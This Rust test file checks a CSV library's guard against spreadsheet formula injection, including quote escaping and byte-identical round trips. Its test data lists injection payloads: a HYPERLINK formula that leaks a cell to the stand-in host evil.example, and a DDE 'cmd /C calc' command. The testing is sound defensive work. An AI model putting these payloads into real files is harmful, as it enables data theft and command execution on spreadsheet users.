//! The spreadsheet formula guard: hostile text is exported with a leading `'`, the guard comes
//! off on import, and a round trip is byte-identical, however many `'`s a value starts with.

use steward_interchange::{Guard, guard, read, read_with, unguard, write, write_with};
use steward_model::{Register, Row, Value};

/// Texts a spreadsheet would run, or that look like a guard already.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "'=already guarded by hand",
    "''=two quotes then a formula",
    "'just a quote",
    "it's plain",
    "=",
    "'",
];

fn person(id: &str, name: &str) -> Row {
    let mut values = vec![Value::Null; Register::People.fields().len()];
    let set = |values: &mut Vec<Value>, field: &str, v: Value| {
        if let Some(i) = Register::People.field_index(field) {
            values[i] = v;
        }
    };
    set(&mut values, "id", Value::Text(id.into()));
    set(&mut values, "name", Value::Text(name.into()));
    set(&mut values, "staff_group", Value::Text("fca".into()));
    set(&mut values, "status", Value::Text("active".into()));
    Row::new(Register::People, values).unwrap_or_else(|e| panic!("{e}"))
}

fn rows() -> Vec<Row> {
    let mut rows: Vec<Row> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, name)| person(&format!("P{i:03}"), name))
        .collect();
    // An id can be hostile too: ids are text.
    rows.push(person("=1+1", "Id as formula"));
    rows
}

fn csv(rows: &[Row], g: Guard) -> String {
    let mut out = Vec::new();
    write_with(Register::People, rows, &mut out, g).unwrap_or_else(|e| panic!("{e}"));
    String::from_utf8(out).unwrap_or_default()
}

#[test]
fn a_formula_is_exported_guarded() {
    let text = csv(&rows(), Guard::On);
    assert!(
        text.contains("P000,\"'=HYPERLINK(\"\"http://evil.example/"),
        "{text}"
    );
    assert!(text.contains("P002,'-2+3,"), "{text}");
    assert!(text.contains("P003,'@SUM(1,2),") || text.contains("P003,\"'@SUM(1,2)\","));
    assert!(text.contains("'=1+1,Id as formula"), "{text}");
    // No line has a cell a spreadsheet would run: every cell starting so is guarded.
    for line in text.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell} in {line}");
        }
    }
    // Plain text, and a quote not before a formula, are left alone.
    assert!(text.contains("P006,'just a quote,"), "{text}");
    assert!(text.contains("P007,it's plain,"), "{text}");
    // Written the same by the default `write`.
    let mut out = Vec::new();
    write(Register::People, &rows(), &mut out).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(String::from_utf8(out).unwrap_or_default(), text);
}

#[test]
fn a_round_trip_is_byte_identical() {
    for g in [Guard::On, Guard::Off] {
        let first = csv(&rows(), g);
        let back = read_with(Register::People, "people.csv", first.as_bytes(), g)
            .unwrap_or_else(|e| panic!("{g:?}: {e:?}"));
        let back: Vec<Row> = back.into_iter().map(|p| p.row).collect();
        assert_eq!(back, rows(), "{g:?}: the values come back as they were");
        assert_eq!(csv(&back, g), first, "{g:?}: and write out the same bytes");
    }
}

#[test]
fn without_the_guard_cells_are_written_and_read_as_they_are() {
    let text = csv(&rows(), Guard::Off);
    assert!(text.contains("P002,-2+3,"), "{text}");
    // A guarded file read without taking the guard off keeps the quote.
    let guarded = csv(&rows(), Guard::On);
    let kept = read_with(
        Register::People,
        "people.csv",
        guarded.as_bytes(),
        Guard::Off,
    )
    .unwrap_or_else(|e| panic!("{e:?}"));
    assert_eq!(kept[2].row.get("name"), Some(&Value::Text("'-2+3".into())));
    // The default `read` takes it off.
    let taken = read(Register::People, "people.csv", guarded.as_bytes())
        .unwrap_or_else(|e| panic!("{e:?}"));
    assert_eq!(taken[2].row.get("name"), Some(&Value::Text("-2+3".into())));
}

#[test]
fn guard_and_unguard_undo_each_other_exactly() {
    for text in HOSTILE
        .iter()
        .chain(&["", "plain", "'", "''", "'a", "'-", "-"])
    {
        assert_eq!(unguard(&guard(text)), *text, "{text:?}");
    }
    assert_eq!(guard("\tcmd"), "'\tcmd");
    assert_eq!(guard("\rcmd"), "'\rcmd");
    assert_eq!(unguard("'plain"), "'plain");
    assert_eq!(unguard("'=x"), "=x");
    assert_eq!(unguard("''=x"), "'=x");
}
